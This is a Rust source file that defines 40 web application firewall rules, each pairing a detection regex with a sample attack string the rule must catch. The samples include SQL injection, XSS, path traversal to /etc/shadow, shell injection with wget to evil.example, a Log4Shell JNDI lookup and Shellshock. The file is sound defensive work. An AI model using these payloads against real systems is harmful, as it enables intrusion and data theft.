//! The 40 rules of the policy `rs`: one table, from which Weir's policy and the Lua peers'
//! rules are made, so that everyone does the same work, and which carries for each rule an
//! attack that it must catch, so that everyone is seen to do it.
//!
//! The patterns are what such products ship: short alternations and bounded gaps, no
//! look-around, the same meaning in PCRE (Lua) and in Rust's `regex` (Weir). They hold no
//! quote characters, so that they look the same in every notation.

/// The part of a request that a rule inspects.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Subject {
    /// The decoded, normalised path.
    Path,
    /// Each decoded value of a query argument.
    Argument,
    /// The User-Agent header.
    Agent,
    /// The Cookie header.
    Cookie,
    /// The Referer header.
    Referer,
    /// Each decoded value of a form field in the body.
    Form,
}

/// A rule.
#[derive(Clone, Copy, Debug)]
pub struct Rule {
    /// Its id.
    pub id: &'static str,
    /// The part of a request that it inspects.
    pub subject: Subject,
    /// Regular expression that means an attack.
    pub pattern: &'static str,
    /// A value of the subject that it must catch.
    pub attack: &'static str,
}

impl Subject {
    /// The expression of Weir's language that says "this matches PATTERN".
    #[must_use]
    pub fn condition(self, pattern: &str) -> String {
        match self {
            Self::Path => format!("http.request.uri.path matches r\"{pattern}\""),
            Self::Argument => format!("any(http.request.uri.args.values[*] matches r\"{pattern}\")"),
            Self::Agent => format!("http.user_agent matches r\"{pattern}\""),
            Self::Cookie => format!("http.cookie matches r\"{pattern}\""),
            Self::Referer => format!("http.referer matches r\"{pattern}\""),
            Self::Form => format!("any(http.request.body.form.values[*] matches r\"{pattern}\")"),
        }
    }

    /// Its name in the Lua peers' rule table.
    #[must_use]
    pub fn key(self) -> &'static str {
        match self {
            Self::Path => "path",
            Self::Argument => "args",
            Self::Agent => "agent",
            Self::Cookie => "cookie",
            Self::Referer => "referer",
            Self::Form => "form",
        }
    }
}

macro_rules! rules {
    ($($id:literal $subject:ident $pattern:literal $attack:literal)*) => {
        &[$(Rule { id: $id, subject: Subject::$subject, pattern: $pattern, attack: $attack },)*]
    };
}

/// The rules, in the order of evaluation.
pub const RULES: &[Rule] = rules! {
    "path-hidden-file" Path r"/\.(?:git|svn|hg|env|htaccess|htpasswd|DS_Store)(?:/|$)" "/app/.git/config"
    "path-backup" Path r"(?i)\.(?:bak|old|orig|swp|save|sql|tar\.gz|tgz|rar)$" "/index.php.bak"
    "path-web-shell" Path r"(?i)/(?:c99|r57|wso|b374k|alfa|indoxploit|webshell|shell)\d*\.php" "/uploads/c99.php"
    "path-database-admin" Path r"(?i)^/(?:phpmyadmin|pma|myadmin|adminer|dbadmin|mysqladmin)[-_\d.]*/" "/phpMyAdmin-4.8/index.php"
    "path-java-console" Path r"(?i)^/(?:manager/html|jmx-console|web-console|invoker/jmxinvokerservlet|actuator/(?:env|heapdump|jolokia))" "/actuator/heapdump"
    "path-wordpress" Path r"(?i)/(?:xmlrpc\.php|wp-config\.php|wp-content/plugins/[^/]+/[^/]+\.php)$" "/wp-content/plugins/slider/upload.php"
    "path-cgi-shell" Path r"(?i)^/cgi-bin/.*(?:bash|sh|perl|cmd|php)[^/]*$" "/cgi-bin/test-bash"

    "args-sql-union" Argument r"(?i)\bunion\b.{0,40}\bselect\b" "1 union all select password"
    "args-sql-boolean" Argument r"(?i)[\x22\x27]\s*(?:or|and)\s+[\x22\x27\w]+\s*(?:=|like|<|>)" "x' or 1=1 -- "
    "args-sql-function" Argument r"(?i)\b(?:sleep|benchmark|pg_sleep|waitfor\s+delay|extractvalue|updatexml)\s*\(" "1-sleep(5)"
    "args-sql-schema" Argument r"(?i)\b(?:information_schema|sysobjects|pg_catalog|sqlite_master)\b" "a from information_schema.tables"
    "args-xss-tag" Argument r"(?i)<\s*(?:script|iframe|object|embed|svg|img)\b" "<script>alert(1)</script>"
    "args-xss-handler" Argument r"(?i)\bon(?:error|load|click|mouseover|focus|submit)\s*=" "x onerror=alert(1)"
    "args-xss-uri" Argument r"(?i)(?:javascript|vbscript|data)\s*:\s*[^,\s]*(?:alert|eval|base64)" "javascript:alert(1)"
    "args-file" Argument r"(?i)(?:\.\./){2,}|/etc/(?:passwd|shadow|hosts)|\bboot\.ini\b" "../../../../etc/passwd"
    "args-shell" Argument r"(?i)[;|&`]\s*(?:cat|id|wget|curl|nc|bash|sh|whoami|uname)\b" "8.8.8.8; cat /tmp/x"
    "args-remote-file" Argument r"(?i)^(?:https?|ftp|php|file|expect|gopher)://[^?]*\.(?:txt|php|sh)\b" "http://evil.example/shell.txt"
    "args-template" Argument r"(?:\$\{|\{\{|<%)[^}%]{0,100}(?:\}|%>)" "{{7*7}}"

    "agent-scanner" Agent r"(?i)(?:sqlmap|nikto|nessus|acunetix|netsparker|w3af|dirbuster|gobuster|nuclei|wpscan|masscan|zgrab)" "sqlmap/1.7 (https://sqlmap.org)"
    "agent-library" Agent r"(?i)^(?:python-requests|python-urllib|libwww-perl|go-http-client|java|okhttp|curl|wget)/" "python-requests/2.31"
    "agent-shellshock" Agent r"\(\)\s*\{\s*:?;?\s*\}\s*;" "() { :; }; /bin/true"
    "agent-jndi" Agent r"(?i)\$\{(?:jndi|lower|upper|env|sys):" "${jndi:ldap://evil.example/a}"
    "agent-bare" Agent r"^(?:-|Mozilla/5\.0|test|null|undefined)$" "Mozilla/5.0"

    "cookie-sql" Cookie r"(?i)\b(?:union|select|insert|update|delete|drop)\b[^;]{1,60}\b(?:from|into|table|where)\b" "id=1 union select a from b"
    "cookie-xss" Cookie r"(?i)<\s*/?\s*(?:script|iframe|svg)" "a=<script>"
    "cookie-php-object" Cookie r"(?i)[oc]:\d+:\x22\w+\x22:\d+:\{" "s=O:4:\"User\":1:{"
    "cookie-session-length" Cookie r"(?i)(?:^|;\s*)(?:phpsessid|jsessionid|asp\.net_sessionid)=[^;]{100,}" "PHPSESSID=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
    "cookie-java-object" Cookie r"(?:rO0AB|aced0005)" "s=rO0ABXNyABF"

    "referer-xss" Referer r"(?i)(?:<\s*script|javascript:)" "https://a.example/<script>"
    "referer-sql" Referer r"(?i)\bunion\b.{0,40}\bselect\b|\bselect\b.{1,60}\bfrom\b" "https://a.example/?a=1 union select 2"
    "referer-spam" Referer r"(?i)https?://[^/]*(?:semalt|buttons-for-website|best-seo-offer|darodar|ilovevitaly)\." "http://www.semalt.com/"
    "referer-scheme" Referer r"(?i)^(?:file|about|chrome)://" "file:///c:/index.html"

    "form-sql-union" Form r"(?i)\bunion\b.{0,40}\bselect\b" "x union select 1,2,3"
    "form-sql-stacked" Form r"(?i);\s*(?:drop|alter|create|truncate|insert|delete)\s+(?:table|database|into|from)\b" "a'; drop table users"
    "form-xss" Form r"(?i)<\s*(?:script|iframe|object|embed|svg|img)\b|\bon(?:error|load|click)\s*=" "<img src=x onerror=a()>"
    "form-php" Form r"(?i)<\?(?:php|=)|\b(?:eval|assert|system|passthru|shell_exec|base64_decode)\s*\(" "<?php phpinfo();"
    "form-file" Form r"(?i)(?:\.\./){2,}|/etc/(?:passwd|shadow|hosts)|\bboot\.ini\b" "/etc/shadow"
    "form-shell" Form r"(?i)[;|&`]\s*(?:cat|id|wget|curl|nc|bash|sh|whoami|uname)\b" "x | wget evil.example"
    "form-nosql" Form r"(?i)\$(?:ne|gt|lt|gte|lte|regex|where|exists)\b" "{$ne: 1}"
    "form-xml-entity" Form r"(?i)<!(?:doctype|entity)[^>]{0,200}(?:system|public)" "<!DOCTYPE a SYSTEM 'file:///x'>"
};

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn there_are_forty_with_ids_of_their_own_over_all_subjects() {
        assert_eq!(RULES.len(), 40);
        assert_eq!(RULES.iter().map(|rule| rule.id).collect::<HashSet<_>>().len(), 40);
        assert_eq!(RULES.iter().map(|rule| rule.subject).collect::<HashSet<_>>().len(), 6);
    }

    #[test]
    fn patterns_can_be_written_in_every_notation() {
        for rule in RULES {
            assert!(!rule.pattern.contains(['"', '\'', '\n']), "{}", rule.id);
            assert!(!rule.pattern.contains("]==]"), "{}", rule.id);
        }
    }
}
